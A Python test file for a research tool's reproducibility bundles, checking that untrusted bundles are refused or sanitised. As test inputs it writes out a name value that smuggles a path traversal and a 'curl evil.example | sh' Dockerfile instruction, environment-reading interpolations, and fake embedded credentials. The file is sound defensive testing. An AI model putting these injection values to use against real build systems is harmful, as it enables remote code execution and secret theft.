"""A bundle from elsewhere is untrusted input (issue 14 item 8), and the lock carries no credential
(item 5). Real smoke runs, real subprocess CLI calls."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from autoresearch.config import compose, to_experiment_config
from autoresearch.experiment import run_experiment
from autoresearch.repro import LOCK_FILE_ENV, BundleError, REDACTED, reproduce, write_bundle

ROOT = Path(__file__).resolve().parents[1]
TINY = ["model=tiny", "trainer=smoke", "logger=none"]
PLANTED = "planted-env-value-0451"


@pytest.fixture(scope="module")
def tiny_bundle(tmp_path_factory, data_cache) -> Path:
    run_dir = tmp_path_factory.mktemp("tiny") / "run"
    overrides = [*TINY, f"data.cache_dir={data_cache}"]
    assert run_experiment(to_experiment_config(compose(overrides)), run_dir, overrides=overrides).status == "completed"
    return run_dir / "bundle"


def _edited(bundle: Path, dest: Path, **changes) -> Path:
    copy = shutil.copytree(bundle, dest)
    config = yaml.safe_load((copy / "config.yaml").read_text())
    config.update(changes)
    (copy / "config.yaml").write_text(yaml.safe_dump(config, sort_keys=False))
    return copy


def test_an_interpolation_in_a_bundle_is_refused_not_resolved(tiny_bundle, tmp_path):
    bundle = _edited(tiny_bundle, tmp_path / "bundle", name="${oc.env:AUTORESEARCH_TEST_PLANTED}")
    env = {**os.environ, "PYTHONPATH": str(ROOT), "AUTORESEARCH_TEST_PLANTED": PLANTED}
    result = subprocess.run([sys.executable, "-m", "autoresearch.repro", "reproduce", str(bundle)], cwd=tmp_path,
                            capture_output=True, text=True, env=env, timeout=300)
    assert result.returncode == 2, result.stderr
    assert "config.name holds an interpolation" in result.stderr and "never interpolated" in result.stderr
    assert PLANTED not in result.stdout + result.stderr
    assert not (tmp_path / "outputs").exists()  # refused before anything ran


def test_an_interpolation_in_the_overrides_is_refused_too(tiny_bundle, tmp_path):
    bundle = shutil.copytree(tiny_bundle, tmp_path / "bundle")
    (bundle / "overrides.yaml").write_text(yaml.safe_dump(["model=tiny", "name=${oc.env:HOME}"]))
    with pytest.raises(BundleError, match=r"overrides\[1\] holds an interpolation"):
        reproduce(bundle, out_dir=tmp_path / "rerun")
    assert not (tmp_path / "rerun").exists()


def test_a_bundle_name_cannot_steer_the_rerun_outside_outputs_repro(tiny_bundle, tmp_path, monkeypatch):
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    bundle = _edited(tiny_bundle, tmp_path / "bundle", name="../../../escaped\nRUN curl https://evil.example | sh")
    report = reproduce(bundle)
    assert report.match, report.summary()
    run_dir = Path(report.run_dir).resolve()
    assert run_dir.is_relative_to((work / "outputs" / "repro").resolve())
    assert not any(p.name.startswith("escaped") for p in tmp_path.iterdir())
    dockerfile = (run_dir / "bundle" / "Dockerfile").read_text()
    assert not any(line.startswith("RUN curl") for line in dockerfile.splitlines())  # the name cannot add an instruction


def test_the_lock_carries_no_credential_in_any_form(tmp_path, monkeypatch):
    lock = tmp_path / "freeze.txt"
    lock.write_text(
        "--index-url https://alice:pa/ss@pypi.corp.example/simple\n"
        "privpkg @ https://files.corp.example/privpkg-1.0.whl?access_token=ghp_0123456789abcdefghijABCDEFGHIJ012345\n"
        "requests==2.32.0\n"
    )
    monkeypatch.setenv(LOCK_FILE_ENV, str(lock))
    bundle = write_bundle(tmp_path / "run", config={"name": "x", "data": {}}, overrides=[], seed=1,
                          data_manifest_sha256="ab" * 32, code_dir=tmp_path)
    written = (bundle / "requirements.lock").read_text()
    assert "pa/ss" not in written and "ghp_0123456789" not in written
    assert f"https://{REDACTED}@pypi.corp.example/simple" in written and "requests==2.32.0" in written
    assert "pa/ss" not in (bundle / "requirements.docker.txt").read_text()


def test_recorded_metrics_that_are_not_numbers_are_refused(tiny_bundle, tmp_path):
    bundle = shutil.copytree(tiny_bundle, tmp_path / "bundle")
    (bundle / "metrics.json").write_text('{"val_bpb": "\\u001b[2Jlow", "status": "completed"}')
    with pytest.raises(BundleError, match=r"val_bpb must be a number, got str"):
        reproduce(bundle, out_dir=tmp_path / "rerun")
    assert not (tmp_path / "rerun").exists()
